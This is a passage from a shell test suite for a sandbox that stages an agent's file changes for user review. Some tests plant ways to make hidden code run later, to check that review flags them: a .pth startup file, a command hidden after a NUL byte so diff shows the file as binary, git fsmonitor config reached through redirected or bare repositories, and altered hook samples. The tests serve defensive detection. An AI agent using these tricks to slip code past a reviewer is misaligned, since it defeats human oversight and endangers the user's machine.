    skip "apply keeps a replaced file's POSIX ACL" "no setfacl, or no ACLs on this file system"
fi
# Under --safe the overlay's server runs in a user namespace that maps one
# id: an ACL naming any other user cannot be copied up (EINVAL).  Every
# write to such a file failed; the copy now goes without the ACL (the view
# shows none) and apply keeps the workspace file's own.
W=$T/wsacl2
mkdir -p "$W/d"; echo a > "$W/f"
if command -v setfacl >/dev/null && setfacl -m u:65534:rw "$W/f" 2>/dev/null && setfacl -d -m u:65534:rwx "$W/d"; then
    (cd "$W" && "$P" run --safe -- sh -c 'echo more >> f && echo n > d/n') >/dev/null 2>"$T/acl2.err"; r1=$?
    [ $r1 -eq 0 ] || diag "$(cat "$T/acl2.err")"
    (cd "$W" && "$P" apply) >/dev/null 2>&1; r2=$?
    eq "$r1:$r2:$(getfacl -cpn "$W/f" 2>/dev/null | tr '\n' ' '):$(cat "$W/f" "$W/d/n" | tr '\n' ' ')" \
        "0:0:user::rw- user:65534:rw- group::r-- mask::rw- other::r--  :a more n " \
        "--safe writes to a file and into a directory whose ACLs name a user the sandbox does not map; apply keeps the ACL"
else
    skip "--safe writes to files with ACLs" "no setfacl, or no ACLs on this file system"
fi

# Files added or deleted whole are diffed without diff(1) (one process per
# file made a large stage's review take minutes): the output must be
# exactly what diff(1) prints for them.
W=$T/wsos
mkdir -p "$W"; (cd "$W" && printf 'x\n' > del1 && printf 'a\nb' > delnonl && : > delempty && printf 'l1\r\nl2\r\n' > delcrlf)
cp -a "$W" "$T/wsos.old"
(cd "$W" && "$P" run --stage auto -- sh -c 'rm del1 delnonl delempty delcrlf; printf "one\n" > a1; printf "a\nb" > anonl; : > aempty; printf "x\n\n\ny\n" > ablank; seq 1 500 > abig') >/dev/null 2>&1
S=$XDG_STATE_HOME/pvisor/runs/$(latest_run)/stage
(cd "$W" && "$P" diff) > "$T/os.diff" 2>&1
{
    for f in a1 abig ablank aempty anonl; do
        printf 'diff --git a/%s b/%s\nnew file mode 100644\n' "$f" "$f"
        diff -u --label /dev/null --label "b/$f" /dev/null "$S/upper/$f"
    done
    for f in del1 delcrlf delempty delnonl; do
        printf 'diff --git a/%s b/%s\ndeleted file mode 100644\n' "$f" "$f"
        diff -u --label "a/$f" --label /dev/null "$T/wsos.old/$f" /dev/null
    done
} > "$T/os.expected"
check "diff of added and deleted files is byte for byte diff(1)'s (empty, no final newline, CRLF, blank lines)" \
    cmp -s "$T/os.diff" "$T/os.expected"
(cd "$W" && "$P" diff --stat) > "$T/os.stat" 2>&1
eq "$(tail -n 1 "$T/os.stat")" " 9 files changed, 507 insertions(+), 5 deletions(-)" "... and --stat counts their lines"

# A directory the agent saw and added to, removed by the user after the
# run: a conflict (apply would bring it back holding only the agent's
# additions); a directory the agent renamed, or created, is none.
W=$T/wsrmd
mkdir -p "$W/d" "$W/m"; echo a > "$W/d/a"; echo m > "$W/m/x"
(cd "$W" && "$P" run --stage auto -- sh -c 'echo c > d/c; mv m m2; echo y > m2/y; mkdir new; echo n > new/n') >/dev/null 2>&1
rm -rf "$W/d"
(cd "$W" && "$P" apply) >/dev/null 2>"$T/rmd.err"; rc=$?
eq "$rc:$(grep -c '  d: removed from the workspace since the run' "$T/rmd.err"):$(grep -c -e m2 -e new "$T/rmd.err"):$(ls "$W" | tr '\n' ' ')" \
    "1:1:0:m " "a directory the user removed after the agent added to it is a conflict (renamed and new ones are not)"

# Nested workspaces: without a RUN, the stage of the deepest workspace the
# current directory is in, even when the outer one's run is newer
W=$T/wsnest
mkdir -p "$W/inner"
(cd "$W/inner" && "$P" run --stage auto -- sh -c 'echo i > fi') >/dev/null 2>&1
(cd "$W" && "$P" run --stage auto -- sh -c 'echo o > fo') >/dev/null 2>&1
(cd "$W/inner" && "$P" apply) >/dev/null 2>&1; rc=$?
eq "$rc:$(ls "$W" | tr '\n' ' '):$(ls "$W/inner" | tr '\n' ' ')" "0:inner :fi " \
    "in a workspace nested in another, apply takes its own stage, not the outer one's newer stage"

# An apply killed half-way leaves its workspace part old, part new: until
# it is completed, a run there (the agent would build on the half-written
# tree) and an apply of another stage are refused, naming the stage; its
# own apply resumes it, and then both work again. (Both used to go ahead,
# and the resume then met files neither old nor new, for good.)
W=$T/wspend
mkdir -p "$W"; i=0; while [ $i -lt 200 ]; do echo o > "$W/f$i"; i=$((i + 1)); done
(cd "$W" && "$P" run --stage auto -- sh -c 'for f in f*; do echo A >> $f; done') >/dev/null 2>&1
SA=$("$P" status --review --json latest | jq -r .stage.path)
(cd "$W" && "$P" run --stage auto -- sh -c 'echo C > other') >/dev/null 2>&1
SC=$("$P" status --review --json latest | jq -r .stage.path)
(cd "$W" && PVISOR_TEST_APPLY_DELAY_US=5000 exec "$P" apply --stage "$SA") >/dev/null 2>&1 &
ap=$!
wait_for "$SA/apply-intent"; sleep 0.3; kill -9 $ap; wait $ap 2>/dev/null
n_new=$(grep -l A "$W"/f* | wc -l)
eq "$("$P" list --json | jq -r --arg s "$SA" '.[] | select(.stage == $s) | .apply_pending'):$("$P" list | grep "$(basename "$(dirname "$SA")")" | grep -c ' half-applied ')" \
    "true:1" "list shows the run whose apply was cut short (apply_pending; half-applied)"
(cd "$W" && "$P" run --stage auto -- sh -c 'echo B >> f0; echo ran') >"$T/pend.run" 2>&1; r1=$?
(cd "$W/.." && "$P" run -- true) >/dev/null 2>&1; r2=$?
(cd "$W" && "$P" apply --stage "$SC") >/dev/null 2>"$T/pend.apply"; r3=$?
eq "$r1:$r2:$r3:$(grep -c ran "$T/pend.run"):$(grep -c "apply of the stage $SA into $W was interrupted" "$T/pend.run" "$T/pend.apply" | cut -d: -f2 | tr '\n' ' ')$([ -e "$W/other" ] && echo other)" \
    "125:125:1:0:1 1 " "after a killed apply ($n_new of 200 files written), a run in (or around) the workspace and an apply of another stage are refused, naming it"
(cd "$W" && "$P" apply --stage "$SA") >/dev/null 2>&1; r1=$?
(cd "$W" && "$P" apply --stage "$SC") >/dev/null 2>&1; r2=$?
(cd "$W" && "$P" run --stage auto -- true) >/dev/null 2>&1; r3=$?
eq "$r1:$r2:$r3:$(grep -l A "$W"/f* | wc -l):$(cat "$W/other")" "0:0:0:200:C" \
    "its own apply completes it; then the other stage applies and runs go again"

# The record of an apply is kept while its stage lives on without an intent
# yet (the apply loads the changeset before it writes the intent, which
# takes a while): a run elsewhere in that window used to remove it as
# stale, and the apply, killed after, left its workspace unguarded.
# Simulated: the intent of a killed apply, moved away and back.
W=$T/wsrace
mkdir -p "$W" "$T/wsrace-other"; i=0; while [ $i -lt 200 ]; do echo o > "$W/f$i"; i=$((i + 1)); done
(cd "$W" && "$P" run --stage "$T/stpre" -- sh -c 'for f in f*; do echo A >> $f; done') >/dev/null 2>&1
(cd "$W" && PVISOR_TEST_APPLY_DELAY_US=5000 exec "$P" apply --stage "$T/stpre") >/dev/null 2>&1 &
ap=$!
wait_for "$T/stpre/apply-intent"; sleep 0.3; kill -9 $ap; wait $ap 2>/dev/null
mv "$T/stpre/apply-intent" "$T/stpre.intent"
(cd "$T/wsrace-other" && "$P" run -- true) >/dev/null 2>&1; r1=$?
mv "$T/stpre.intent" "$T/stpre/apply-intent"
(cd "$W" && "$P" run -- true) >/dev/null 2>&1; r2=$?
eq "$r1:$r2" "0:125" "a run elsewhere before the apply wrote its intent keeps its record: once killed, its workspace is refused"
(cd "$W" && "$P" apply --stage "$T/stpre") >/dev/null 2>&1
# ... and a record is its stage's (device and inode), not its path's: the
# record of a killed apply whose stage was removed, and another stage
# made at that path, interrupted in turn, must not refuse that stage's
# own resume (kept records made this likely)
rm -rf "$T/stpre"; cp -a "$W" "$T/wsrace.tmpl"
(cd "$W" && "$P" run --stage "$T/stpre.tmpl" -- sh -c 'for f in f*; do echo B >> $f; done') >/dev/null 2>&1
(cd "$W" && "$P" fork --stage "$T/stpre.tmpl" "$T/stpre") >/dev/null 2>&1
(cd "$W" && PVISOR_TEST_APPLY_DELAY_US=5000 exec "$P" apply --stage "$T/stpre") >/dev/null 2>&1 &
ap=$!
wait_for "$T/stpre/apply-intent"; sleep 0.3; kill -9 $ap; wait $ap 2>/dev/null
mv "$T/stpre" "$T/stpre.old"; rm -rf "$W"; cp -a "$T/wsrace.tmpl" "$W"
(cd "$W" && "$P" fork --stage "$T/stpre.tmpl" "$T/stpre") >/dev/null 2>&1
rm -rf "$T/stpre.old"
(cd "$W" && PVISOR_TEST_APPLY_DELAY_US=5000 exec "$P" apply --stage "$T/stpre") >/dev/null 2>&1 &
ap=$!
wait_for "$T/stpre/apply-intent"; sleep 0.3; kill -9 $ap; wait $ap 2>/dev/null
(cd "$W" && "$P" apply --stage "$T/stpre") >/dev/null 2>"$T/stpre.err"; rc=$?
[ $rc -eq 0 ] || diag "$(cat "$T/stpre.err")"
eq "$rc:$(cat "$W"/f* | grep -c B)" "0:200" "a killed apply of a stage made where a removed one's apply was killed: its own resume completes it"

# A workspace whose name holds a newline: the record (STAGE, WORKSPACE) is
# NUL-separated; line-separated, the half-written workspace was not
# guarded, and the directory named by its first line was refused instead.
W="$T/wsnl/a
b"
mkdir -p "$W" "$T/wsnl/a"; i=0; while [ $i -lt 200 ]; do echo o > "$W/f$i"; i=$((i + 1)); done
(cd "$W" && "$P" run --stage "$T/stnl" -- sh -c 'for f in f*; do echo A >> $f; done') >/dev/null 2>&1
(cd "$W" && PVISOR_TEST_APPLY_DELAY_US=5000 exec "$P" apply --stage "$T/stnl") >/dev/null 2>&1 &
ap=$!
wait_for "$T/stnl/apply-intent"; sleep 0.3; kill -9 $ap; wait $ap 2>/dev/null
(cd "$W" && "$P" run -- true) >/dev/null 2>&1; r1=$?
(cd "$T/wsnl/a" && "$P" run -- true) >/dev/null 2>&1; r2=$?
eq "$r1:$r2" "125:0" "after a killed apply into a workspace named with a newline, a run there is refused, not one in a namesake"
(cd "$W" && "$P" apply --stage "$T/stnl") >/dev/null 2>&1; r1=$?
(cd "$W" && "$P" run -- true) >/dev/null 2>&1; r2=$?
eq "$r1:$r2:$(cat "$W"/f* | grep -c A)" "0:0:200" "... its own apply completes it, and runs go again"

# Two applies into one workspace at the same time both passed their
# conflict checks, then wrote over each other: the later writer won,
# and the earlier stage's change was lost, or stopped half-way.  (A second
# state directory, or a start within the same millisecond, got past the
# records above.)  An apply now holds its workspace (and the directories
# around it) while it runs; another is refused, and so is a run there,
# saying the apply is going on, not that it was interrupted.
W=$T/wsconc
mkdir -p "$W/sub"; echo o > "$W/z"; i=0; while [ $i -lt 200 ]; do echo o > "$W/g$i"; i=$((i + 1)); done
(cd "$W" && "$P" run --stage "$T/stconcA" -- sh -c 'echo A > z; for f in g*; do echo A >> $f; done') >/dev/null 2>&1
(cd "$W" && XDG_STATE_HOME=$T/state2 "$P" run --stage auto -- sh -c 'echo B > z') >/dev/null 2>&1
(cd "$W/sub" && XDG_STATE_HOME=$T/state2 "$P" run --stage "$T/stconcS" -- sh -c 'echo S > s') >/dev/null 2>&1
(cd "$W" && PVISOR_TEST_APPLY_DELAY_US=5000 exec "$P" apply --stage "$T/stconcA") >/dev/null 2>"$T/conc.a" &
ap=$!
wait_for "$T/stconcA/apply-intent"
(cd "$W" && XDG_STATE_HOME=$T/state2 "$P" apply) >/dev/null 2>"$T/conc.b"; r1=$?
(cd "$W/sub" && XDG_STATE_HOME=$T/state2 "$P" apply --stage "$T/stconcS") >/dev/null 2>"$T/conc.s"; r2=$?
(cd "$W" && "$P" run -- true) >/dev/null 2>"$T/conc.run"; r3=$?
(cd "$W/sub" && XDG_STATE_HOME=$T/state2 "$P" run -- true) >/dev/null 2>>"$T/conc.run"; r4=$?
wait $ap; ra=$?
eq "$ra:$r1:$r2:$r3:$r4:$(cat "$W/z"):$(grep -l A "$W"/g* | wc -l):$([ -e "$W/sub/s" ] && echo s)" "0:1:1:125:125:A:200:" \
    "while an apply runs, an apply of another stage (other state directory) and one into a directory inside are refused, and runs there (any state directory)"
eq "$(grep -c "another 'pvisor apply' is writing into $W" "$T/conc.b" "$T/conc.s" | cut -d: -f2 | tr '\n' ' ')$(grep -c "a 'pvisor apply' is writing into $W.* or a directory that holds it now" "$T/conc.run")" \
    "1 1 2" "... saying another apply is going on (not that it was interrupted)"
(cd "$W" && XDG_STATE_HOME=$T/state2 "$P" apply) >/dev/null 2>"$T/conc.b"; r1=$?
(cd "$W/sub" && XDG_STATE_HOME=$T/state2 "$P" apply --stage "$T/stconcS") >/dev/null 2>&1; r2=$?
eq "$r1:$(grep -c '^  z: content changed' "$T/conc.b"):$(cat "$W/z"):$r2:$(cat "$W/sub/s")" "1:1:A:0:S" \
    "once it has finished, the other stage's apply meets its change as a conflict; the one inside applies"

# An empty RUN (`pvisor drop "$RUN"` with RUN unset) is a usage error: ""
# is a prefix of every run id, so with one run recorded it took that run,
# of any workspace, from any directory, where a bare `pvisor drop` refuses.
W=$T/wsempty
S1="XDG_STATE_HOME=$T/state-empty"
mkdir -p "$W"; echo a > "$W/a"
(cd "$W" && env "$S1" "$P" run --stage auto -- sh -c 'echo b > a') >/dev/null 2>&1
for v in drop apply "apply --dry-run" checkpoint "status --review" status; do
    # shellcheck disable=SC2086
    (cd / && env "$S1" "$P" $v "") >/dev/null 2>"$T/empty.err"; rc=$?
    eq "$rc:$(grep -c . "$T/empty.err")" "2:2" "$v '': a usage error"
done
(cd / && env "$S1" "$P" fork "") >/dev/null 2>&1; eq $? 2 "fork '': a usage error"
eq "$(cd "$W" && env "$S1" "$P" status --review --json | jq -r .stage.state):$(cat "$W/a")" "sealed:a" \
    "... and the stage is neither dropped nor applied"

# An applied stage differs from the workspace by the edits made there since
# the apply (a 'git status' refreshes .git/index): review listed them as
# its changes under "Conflicts (apply refuses until they are resolved)",
# with "rebuild them after the apply", and diff warned "apply refuses
# them", as if they were still to apply; both now say what they are
W=$T/wsapedit
mkdir -p "$W"; echo old > "$W/f"; printf 'a\000' > "$W/b"
(cd "$W" && "$P" run --stage auto -- sh -c 'echo new > f; printf "b\000" > b') >/dev/null 2>&1
(cd "$W" && "$P" apply) >/dev/null 2>&1
echo "mine" >> "$W/f"; printf 'c\000' > "$W/b"
(cd "$W" && "$P" status --review) >"$T/apedit.st" 2>&1
(cd "$W" && "$P" diff) >/dev/null 2>"$T/apedit.diff"
eq "$(grep -c '^Note: *applied; what is listed below is not still to apply' "$T/apedit.st"):$(grep -c 'apply refuses\|rebuild them after the apply' "$T/apedit.st"):$(grep -c '^  x f: content changed' "$T/apedit.st")" \
    "1:0:1" "review of an applied stage edited since: the edits are not changes still to apply, nor conflicts apply refuses"
eq "$(grep -c 'was applied; this is not still to apply' "$T/apedit.diff"):$(grep -c 'apply refuses' "$T/apedit.diff")" "1:0" \
    "... nor in diff"

# An applied stage kept its whole copy of the changes (and its checkpoints)
# for good: drop refused it ("nothing left to discard"). Now drop empties
# it, the workspace keeps what apply wrote, and it still reads 'applied'.
W=$T/wsapdrop
mkdir -p "$W"; echo old > "$W/f"
(cd "$W" && "$P" run --stage auto -- sh -c 'head -c 200000 /dev/urandom > big; echo new > f; mkdir d; echo x > d/x') >/dev/null 2>&1
SAD=$("$P" status --review --json latest | jq -r .stage.path)
"$P" checkpoint --stage "$SAD" >/dev/null 2>&1
(cd "$W" && "$P" apply) >/dev/null 2>&1; r1=$?
sum_before=$(cd "$W" && find . -type f -exec md5sum {} + | sort | md5sum)
(cd "$W" && "$P" drop) >"$T/apdrop.out" 2>&1; r2=$?
(cd "$W" && "$P" status --review) >"$T/apdrop.st" 2>&1; r3=$?
eq "$r1:$r2:$r3:$(ls -A "$SAD" | tr '\n' ' ')$(review_json "$SAD" | jq -c '[.stage.state, .stage.copy_removed, .changeset]')" \
    "0:0:0:applied lock meta.json sealed version [\"applied\",true,null]" \
    "drop of an applied stage removes its copy of the changes and its checkpoints; it still reads applied"
eq "$(cd "$W" && find . -type f -exec md5sum {} + | sort | md5sum):$(grep -c "copy of them was removed" "$T/apdrop.st")" "$sum_before:1" \
    "... the workspace keeps what apply wrote, and review says where the changes went"
(cd "$W" && "$P" diff) >/dev/null 2>"$T/apdrop.diff"; rc=$?
eq "$rc:$(grep -c "was applied: its changes are in the workspace ('pvisor drop' removed the stage's copy of them)" "$T/apdrop.diff"):$(grep -c 'dropped?' "$T/apdrop.diff")" \
    "1:1:0" "... and so does diff (it asked whether the applied stage was dropped)"

# Review warnings that matter: a .pth file (or sitecustomize.py) the agent
# puts in an environment's site-packages runs at every start of Python
# there, as a git hook does on the next git command; git init's dozen
# *.sample hooks, which git never runs, no longer bury them (each gave a
# git_hook and an exec warning).
W=$T/wswarn
mkdir -p "$W"
(cd "$W" && "$P" run --stage auto -- sh -c 'git init -q . && mkdir -p .venv/lib/python3.11/site-packages &&
    echo "import os" > .venv/lib/python3.11/site-packages/evil.pth && echo x > .venv/lib/python3.11/site-packages/mod.py &&
    mkdir -p lib/site-packages/pkg && echo y > lib/site-packages/pkg/inner.pth &&
    printf "#!/bin/sh\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warn.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "python_startup") | .path] | join(",")' "$T/warn.json"):$(jq '[.changeset.warnings[] | select(.path | endswith(".sample"))] | length' "$T/warn.json"):$(jq -r '[.changeset.warnings[] | select(.path == ".git/hooks/pre-commit") | .warning] | sort | join(",")' "$T/warn.json")" \
    ".venv/lib/python3.11/site-packages/evil.pth:0:exec,git_hook" \
    "review warns of a .pth in site-packages (not one deeper), not of git's *.sample hooks, and still of a real hook"

# A git the run's end killed (an agent's 'git commit' waiting on its
# editor, in the background when the command exited) leaves its lock file
# (.git/index.lock, a ref's NAME.lock); applied, every git command that
# takes that lock fails ("File exists"): review says so (git_lock), for a
# new lock file inside a .git only.
W=$T/wswarnlock
mkdir -p "$W" && (cd "$W" && git init -q . && echo a > a && git add a &&
    git -c user.name=t -c user.email=t@t commit -qm i && echo stale > .git/HEAD.lock)
(cd "$W" && "$P" run --stage auto -- sh -c 'echo b >> a &&
    GIT_EDITOR="sleep 600; true" git -c user.name=t -c user.email=t@t commit -qa &
    i=0; while { [ ! -e .git/index.lock ] || [ ! -e .git/COMMIT_EDITMSG ]; } && [ $i -lt 600 ]; do sleep 0.05; i=$((i + 1)); done
    : > .git/refs/heads/topic.lock; : > build.lock; rm .git/HEAD.lock') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warnlock.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_lock") | .path] | sort | join(",")' "$T/warnlock.json")" \
    ".git/index.lock,.git/refs/heads/topic.lock" \
    "review warns of the lock files a killed git left in .git (git_lock), not of other *.lock nor of one deleted"

# Changes the diff does not show: a text file with one NUL byte in it is
# "Binary files differ" to diff (as to git), while sh, bash, a C compiler,
# node and git's config parser read it whole (a hidden command after a
# NUL in a comment); a renamed file, or one in a renamed directory, is
# shown whole as added, what changed in it buried.  Review warns of both
# (nul_text, renamed_changed), not of an image, an unchanged rename or a
# text file without NUL.
W=$T/wshide
mkdir -p "$W/src" && printf 'echo build\n' > "$W/build.sh" && printf 'one\ntwo\n' > "$W/src/a.c" &&
    printf 'b\n' > "$W/src/b.c" && printf 'k\n' > "$W/k.txt" && printf 'k\n' > "$W/m.txt"
(cd "$W" && "$P" run --stage auto -- sh -c 'printf "echo build\n#\0\necho evil\n" > build.sh &&
    printf "\211PNG\r\n\032\n\0\0\0\rIHDR" > img.png && printf "t\0e\0x\0t\0" > utf16.txt &&
    mv src lib && printf "evil\n" >> lib/a.c && mv lib/b.c lib/b2.c && mv k.txt k2.txt && echo more >> m.txt') \
    >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warnhide.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "nul_text") | .path] | sort | join(",")' "$T/warnhide.json"):$(jq -r '[.changeset.warnings[] | select(.warning == "renamed_changed") | .path] | sort | join(",")' "$T/warnhide.json")" \
    "build.sh,utf16.txt:lib/a.c" \
    "review warns of text with a NUL byte (diff shows it as binary) and of a renamed file whose content changed"
eq "$(jq -r .changeset.summary.binary "$T/warnhide.json"):$(cd "$W" && "$P" status --review | grep -c '^Note: *3 of the files added or changed are binary')" \
    "3:1" "review counts the files added or changed that diff shows as binary, and says so"
eq "$(jq -r '[.changeset.changes[] | select(.new.binary) | .path] | sort | join(",")' "$T/warnhide.json"):$(cd "$W" && "$P" status --review | grep '(binary)' | awk '{print $2}' | sort | tr '\n' ',')" \
    "build.sh,img.png,utf16.txt:build.sh,img.png,utf16.txt," "  ... and names them: (binary) on their lines, new.binary in the JSON (the Note gave only a count)"
(cd "$W" && "$P" diff build.sh) > "$T/hide.diff"
eq "$(grep -c '^Binary files a/build.sh and b/build.sh differ' "$T/hide.diff"):$(sh "$(jq -r .stage.path "$T/warnhide.json")/upper/build.sh" 2>/dev/null | tail -n 1)" \
    "1:evil" "  (the diff shows that script as binary, and sh runs what follows the NUL)"
# ... also with other control bytes beside the NUL (no longer "text but for
# NULs"), when the workspace's version was text: bash still runs it
W=$T/wshide2
mkdir -p "$W" && printf 'echo build\n' > "$W/build.sh" && printf '\211PNG\r\n\032\n\0\0' > "$W/img.png" && : > "$W/empty.sh"
(cd "$W" && "$P" run --stage auto -- sh -c 'printf "echo build\n#\0\001\002\033\n" > build.sh && printf "\211PNG\r\n\032\n\0\0\001" > img.png &&
    printf "#!/bin/sh\n#\0\001\necho evil\n" > new.sh && printf "#!/bin/sh\n#\0\001\necho evil\n" > empty.sh &&
    printf "\177ELF\002\001\001\0\0" > new.bin') >/dev/null 2>&1
eq "$(cd "$W" && "$P" status --review --json | jq -r '[.changeset.warnings[] | select(.warning == "nul_text") | .path] | join(",")')" \
    "build.sh,empty.sh,new.sh" \
    "review warns of a text file (an empty one too) whose new content diff shows as binary (a NUL and control bytes), and of a new script (#!) diff shows as binary; not of an image that was binary already, nor a new binary"
eq "$(sh "$(cd "$W" && "$P" status --review --json | jq -r .stage.path)/upper/new.sh" 2>/dev/null | tail -n 1)" "evil" \
    "  (sh runs what follows the NUL and the control byte in that new script)"

# git takes a repository from where a .git file ("gitdir: PATH") or link,
# or a git directory's commondir, says: a directory of the workspace not
# named .git, whose config (core.fsmonitor) and hooks were never warned
# of, ran the agent's command at the user's next 'git status' there (a
# prompt that shows the branch runs it at each cd).  Review warns of the
# pointer (git_redirect).  evil/ (a HEAD, objects/ and refs/) is a git
# directory git takes by itself too (next test): its HEAD and config are
# warned of as well; nothing else in such a stage is.
W=$T/wsredirect
mkdir -p "$W/docs" && (cd "$W" && git init -q . && echo a > a && git add a &&
    git -c user.name=t -c user.email=t@t commit -qm i)
(cd "$W" && "$P" run --stage auto -- sh -c 'mkdir -p evil t2 && cp -r .git/objects .git/refs evil/ &&
    cp .git/config .git/HEAD evil/ && printf "\tfsmonitor = \"touch '"$T"'/redirect-ran; false\"\n" >> evil/config &&
    echo ../evil > .git/commondir && printf "gitdir: ../evil\n" > docs/.git && ln -s ../evil t2/.git') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warnredirect.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_redirect") | .path] | sort | join(",")' "$T/warnredirect.json"):$(jq -r '[.changeset.warnings[] | select(.warning != "git_redirect") | "\(.path)=\(.warning)"] | join(",")' "$T/warnredirect.json")" \
    ".git/commondir,docs/.git,evil/HEAD,t2/.git:evil/config=git_config" \
    "review warns of a .git file or link and of a commondir (git_redirect): git takes config and hooks from there"
# ... not of the pointers git worktree add and git submodule add make: into
# the workspace's own .git, whose config and hooks are warned of already
# (three warnings for two ordinary commands); a pointer that only passes
# through a .git (../.git/../evil) still is
W=$T/wsredirect2
mkdir -p "$W" "$T/subsrc" && (cd "$W" && git init -q . && echo a > a && git add a &&
    git -c user.name=t -c user.email=t@t commit -qm i) &&
    (cd "$T/subsrc" && git init -q . && echo s > s && git add s && git -c user.name=t -c user.email=t@t commit -qm s)
(cd "$W" && "$P" run --stage auto -- sh -c 'git worktree add -q wt 2>/dev/null &&
    git -c protocol.file.allow=always submodule add -q "'"$T"'/subsrc" sub 2>/dev/null &&
    mkdir -p evil2 other && printf "gitdir: ../.git/../evil2\n" > other/.git') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warnredirect2.json"
eq "$(jq -r '[.changeset.changes[] | select(.path == "wt/.git" or .path == "sub/.git") | .path] | sort | join(",")' "$T/warnredirect2.json"):$(jq -r '[.changeset.warnings[] | select(.warning == "git_redirect") | .path] | sort | join(",")' "$T/warnredirect2.json")" \
    "sub/.git,wt/.git:other/.git" \
    "review does not warn of the .git pointers git worktree add and submodule add make (into the workspace's .git), but of one that leaves it"
S=$(jq -r .stage.path "$T/warnredirect.json")
(cd "$S/upper/docs" && GIT_CEILING_DIRECTORIES="$S/upper" git status >/dev/null 2>&1)
eq "$(test -e "$T/redirect-ran" && echo ran)" "ran" "  (git in that directory runs the agent's core.fsmonitor)"

# ... nor did it need a pointer: git takes a directory that holds a HEAD
# and objects/ and refs/ (or a commondir) for a repository by itself, as a
# bare one, wherever it lies in the tree (a checked-in fixture.git); its
# config (core.worktree, core.fsmonitor) ran the agent's command at the
# user's 'git status' in it, and its hooks run too: warned of as
# git_redirect (HEAD, commondir), git_config, git_hook (named NAME.git, as
# a .git: its HEAD is git_refs too, its hooks directory git_hook); not a directory
# that holds a config and a HEAD alone, nor a new *.sample.
W=$T/wsbare
mkdir -p "$W/notgit" && printf 'x\n' > "$W/notgit/HEAD"
(cd "$W" && "$P" run --stage auto -- sh -c 'mkdir -p vendor/fixture.git/objects vendor/fixture.git/refs/heads \
        vendor/fixture.git/hooks && echo "ref: refs/heads/main" > vendor/fixture.git/HEAD &&
    printf "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = \"touch '"$T"'/bare-ran; false\"\n" > vendor/fixture.git/config &&
    printf "#!/bin/sh\n" > vendor/fixture.git/hooks/post-checkout && printf "#!/bin/sh\n" > vendor/fixture.git/hooks/pre-push.sample &&
    printf "[core]\n" > notgit/config && mkdir -p side && echo ../vendor/fixture.git > side/commondir && echo x > side/HEAD') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warnbare.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning != "exec") | "\(.path)=\(.warning)"] | sort | join(",")' "$T/warnbare.json")" \
    "side/HEAD=git_redirect,side/commondir=git_redirect,vendor/fixture.git/HEAD=git_redirect,vendor/fixture.git/HEAD=git_refs,vendor/fixture.git/config=git_config,vendor/fixture.git/hooks/post-checkout=git_hook,vendor/fixture.git/hooks=git_hook" \
    "review warns of a directory git takes for a repository by itself (HEAD, objects/, refs/ or a commondir): its HEAD, config and hooks"
# fsmonitor_ran JSON DIR MARKER: git status in DIR of the stage JSON
# names ran the agent's core.fsmonitor, which touches $T/MARKER
fsmonitor_ran() {
    command -v git >/dev/null || return 0
    S=$(jq -r .stage.path "$1")
    (cd "$S/upper/$2" && GIT_CEILING_DIRECTORIES="$S/upper" git status >/dev/null 2>&1)
    eq "$(test -e "$T/$3" && echo ran)" "ran" "  (git in that directory runs its core.fsmonitor)"
}
fsmonitor_ran "$T/warnbare.json" vendor/fixture.git bare-ran

# ... and one whose objects and refs are symlinks ('objects -> .'): git
# follows them (access, stat), so src/ is a repository whose config git
# run in src/ reads before the workspace's .git; the review took only
# directories (found by a red-team pass). A commondir that is a symlink too.
W=$T/wsbarelink
mkdir -p "$W/src" && (cd "$W" && git init -q . 2>/dev/null; echo 'int x;' > src/a.c)
(cd "$W" && "$P" run --stage auto -- sh -c 'cd src && echo "ref: refs/heads/main" > HEAD && ln -s . objects && ln -s . refs &&
    printf "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = \"touch '"$T"'/barelink-ran; false\"\n" > config &&
    mkdir -p ../side2 && echo x > ../side2/HEAD && ln -s ../src ../side2/commondir &&
    mkdir -p ../side3 ../evil && echo x > ../side3/HEAD && echo > ../side3/objects && echo > ../side3/refs &&
    chmod +x ../side3/objects ../side3/refs && ln -s ../evil ../side3/hooks') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warnbarelink.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning != "exec") | "\(.path)=\(.warning)"] | sort | join(",")' "$T/warnbarelink.json")" \
    "side2/HEAD=git_redirect,side2/commondir=git_redirect,side3/HEAD=git_redirect,side3/hooks=git_hook,src/HEAD=git_redirect,src/config=git_config" \
    "  ... also when its objects and refs, or its commondir, are symlinks, or objects and refs executable files (git's access(X_OK)); its hooks made a symlink"
fsmonitor_ran "$T/warnbarelink.json" src barelink-ran

# A *.sample is unwarned only when new and no hook links to it: a hook
# that is a symlink to its sample (enabling a sample that way) runs it, so
# a change to that sample is a hook change; git never changes an existing
# sample. Python imports sitecustomize as a package or a sourceless .pyc
# too, and a site-packages made a symlink brings another directory's .pth.
W=$T/wswarn2
mkdir -p "$W" && (cd "$W" && git init -q . && ln -s pre-commit.sample .git/hooks/pre-commit &&
    ln -s ../pre-push.sample .git/hooks/pre-push && mkdir -p v/lib/site-packages v/lib64 &&
    echo 'x' > v/lib64/keep && printf 'home = /usr/bin\n' > v/pyvenv.cfg)
(cd "$W" && "$P" run --stage auto -- sh -c 'sed -i "2i echo PWNED" .git/hooks/pre-commit.sample &&
    printf "#!/bin/sh\necho PWNED\n" > .git/hooks/pre-push.sample && chmod +x .git/hooks/pre-push.sample &&
    printf "#!/bin/sh\n" > .git/hooks/new.sample && chmod +x .git/hooks/new.sample &&
    mkdir v/lib/site-packages/sitecustomize && echo "import os" > v/lib/site-packages/sitecustomize/__init__.py &&
